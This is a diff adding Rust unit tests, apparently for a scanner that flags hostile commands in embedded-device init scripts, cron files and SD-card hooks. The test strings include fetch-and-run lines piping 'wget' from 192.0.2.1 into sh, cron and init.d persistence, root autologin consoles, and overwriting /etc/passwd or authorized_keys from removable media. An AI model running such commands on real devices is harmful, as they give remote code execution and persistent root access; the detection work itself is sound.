@@ -255,6 +255,101 @@ fn a_body_counts_where_it_is_called() {
     }
 }
 
+/// What would make a reader that takes words for something else pass over what comes behind.
+#[test]
+fn nothing_hides_behind_quotes_and_documents() {
+    let evil = "wget -qO- http://192.0.2.1/x | sh";
+    for text in [
+        format!("cat > /tmp/motd <<EOF\nDon't power off\nEOF\n{evil}\n"),
+        format!("cat <<-'E O' > /tmp/x\n\tit's\n\tE O\n{evil}\n"),
+        format!("cat <<A <<B\n'\nA\n\"\nB\n{evil}\n"),
+        format!("sh <<EOF\n{evil}\nEOF\n"),
+        format!("cat > /home/x.sh <<EOF\n{evil}\nEOF\n"),
+        format!("f() {{\ncat <<EOF\nit's\nEOF\n{evil}\n}}\nf\n"),
+        format!("X=$(echo \"$l\" | cut -d')' -f1)\n{evil}\n"),
+        format!("A=\"$(echo \")\")\"; {evil}\n"),
+        format!("A=$(echo \\) '('); {evil}\n"),
+        format!("(case \"$1\" in\nstart) : ;;\n(b) : ;;\nesac; {evil})\n"),
+        format!("case a in a) (case b in b) x;; esac; {evil});; esac\n"),
+    ] {
+        assert!(certain("/etc/init.d/S98x", &text).contains(&true), "{text}");
+    }
+    // What may hide something is told.
+    for text in ["x 'y\nz\n", "x \"y\n", "x $(y\n", "x `y\n", "cat <<EOF\nx\n"] {
+        assert_eq!(certain("/etc/init.d/S98x", text), [false], "{text}");
+    }
+    for text in [
+        "cat > /tmp/motd <<EOF\nDon't power off\nEOF\nx\n",
+        "x $((1 << 2))\ny 'a\nb'\n",
+        "case $1 in a|b) x;; *) y;; esac\n",
+        "echo \"it's\" # don't\n",
+        "echo \"Can't open\" >> /etc/init.d/x.log\n",
+    ] {
+        assert!(certain("/etc/init.d/S98x", text).is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn what_is_written_in_plain_is_read() {
+    for text in [
+        "echo \"*/5 * * * * wget -qO- http://192.0.2.1/x | sh\" > /etc/crontabs/root",
+        "echo '@reboot wget -qO- http://192.0.2.1/x | sh' >> /var/spool/cron/crontabs/root",
+        "printf \"#!/bin/sh\\n/tmp/.x\\n\" > /etc/init.d/S99x",
+        "echo \"wget -qO- http://192.0.2.1/x | sh\" > /home/c.sh; sh /home/c.sh",
+        "echo \"wget -qO- http://192.0.2.1/x | sh\" | sh",
+        "crontab -l | { cat; echo \"* * * * * /tmp/x\"; } | crontab -",
+        "{ wget -qO- http://192.0.2.1/x || curl -s http://192.0.2.1/x; } | sh",
+        "f() { wget -qO- \"$1\"; }\nf http://192.0.2.1/x | sh",
+        "curl -s http://192.0.2.1/x | while read l; do eval $l; done",
+        "cd /home; tftp 192.0.2.1 -c get t.sh; sh t.sh",
+        "/dev/.x &",
+    ] {
+        assert!(certain("/etc/rc.local", text).contains(&true), "{text}");
+    }
+    for text in [
+        "cp /tmp/.x /usr/bin/x; x",
+        "crond -c /home/cron",
+        "inetd /home/inetd.cfg",
+    ] {
+        assert_eq!(certain("/etc/rc.local", text), [false], "{text}");
+    }
+    for text in [
+        "echo \"wget failed\" > /home/log",
+        "echo 3 > /proc/sys/vm/drop_caches",
+        "echo \"$1\" | while read l; do eval $l; done",
+        "crond -c /etc/crontabs",
+        "crond; inetd /etc/inetd.conf",
+        ". /dev/null; x > /dev/ttyS0",
+        "tar xf a.tar -C /tmp; cp /tmp/a /usr/bin/a",
+    ] {
+        assert!(certain("/etc/rc.local", text).is_empty(), "{text}");
+    }
+}
+
+#[test]
+fn a_console_is_open_from_scripts_too() {
+    let opens = |path: &str, text: &str| look(path, text.as_bytes(), &Known::default()).consoles.len();
+    for text in [
+        "while :; do setsid /bin/sh -i </dev/ttyS0 >/dev/ttyS0 2>&1; done &",
+        "/sbin/getty -n -l /bin/sh -L ttyS0 115200 vt100 &",
+        "agetty --autologin root ttyS0",
+        "login -f root",
+        "sh < /dev/console",
+    ] {
+        assert_eq!(opens("/etc/rc.local", text), 1, "{text}");
+    }
+    let unit = "[Service]\nExecStart=-/sbin/agetty --autologin root ttyS0\n";
+    assert_eq!(opens("/etc/systemd/system/x.service", unit), 1);
+    for text in [
+        "getty -L ttyS0 115200",
+        "login",
+        "sh /x > /dev/ttyS0",
+        "echo x > /dev/console",
+    ] {
+        assert_eq!(opens("/etc/rc.local", text), 0, "{text}");
+    }
+}
+
 #[test]
 fn what_cards_hold_is_told() {
     let cards = |text: &str| {
@@ -274,6 +369,19 @@ fn what_cards_hold_is_told() {
         "tar xzf /media/sd/x.tgz -C /",
         "D=/mnt\nup() { mount -t auto \"/dev/$1\" \"${D}/$1\"; [ -f ${D}/$1/a.sh ] && sh ${D}/$1/a.sh | logger; }\nup ${MDEV}",
         "mount /dev/mmcblk0p1 /tmp/mmc2; sh /tmp/mmc2/x",
+        "cp /mnt/mmcblk0p1/app /usr/bin/majestic",
+        "cp /mnt/mmcblk0p1/S99x /etc/init.d/",
+        "cp /mnt/mmc/authorized_keys /root/.ssh/",
+        "cp /mnt/mmc/passwd /etc/passwd",
+        "cat /mnt/mmc/inittab > /etc/inittab",
+        "install -m 755 /mnt/mmc/x /usr/sbin/x; x",
+        "cd /mnt/mmc; tar xf up.tar -C /usr/bin",
+        "mount --bind /mnt/mmc/etc /etc",
+        "mount -o bind /mnt/mmc/etc /etc",
+        "cat /mnt/mmc/x.sh | sh",
+        "ls /mnt/mmc/*.sh | while read f; do sh $f; done",
+        "find /mnt/sd -name \"*.sh\" -exec sh {} \\;",
+        "crond -c /mnt/mmc/cron",
     ] {
         assert!(cards(text).contains(&true), "{text}");
     }
@@ -282,12 +390,16 @@ fn what_cards_hold_is_told() {
         "/mnt/mtd/app/start.sh",
         "mount /dev/mmcblk0p1 /mnt/mmc; cp /mnt/mmc/wpa_supplicant.conf /etc/wpa_supplicant.conf",
         "mount /dev/mmcblk0p1 /mnt/mmc; ls /mnt/mmc",
+        "cat /mnt/mmc/config.txt > /tmp/config",
+        "ls /mnt/mmc/*.jpg | while read f; do rm $f; done",
         "cp -a /rom/etc/* /etc",
         "mount /dev/root /; /usr/bin/x",
     ] {
         assert!(cards(text).is_empty(), "{text}");
     }
     assert_eq!(cards("/mnt/other/run.sh"), [false]);
+    assert_eq!(cards("export PATH=/mnt/mmc/bin:$PATH"), [false]);
+    assert_eq!(cards("export LD_LIBRARY_PATH=/mnt/mmc/lib"), [false]);
     // Known from elsewhere.
     let points = [Point::new("/dev/sda1", "/data/", "ext4").unwrap()];
     let known = Known {
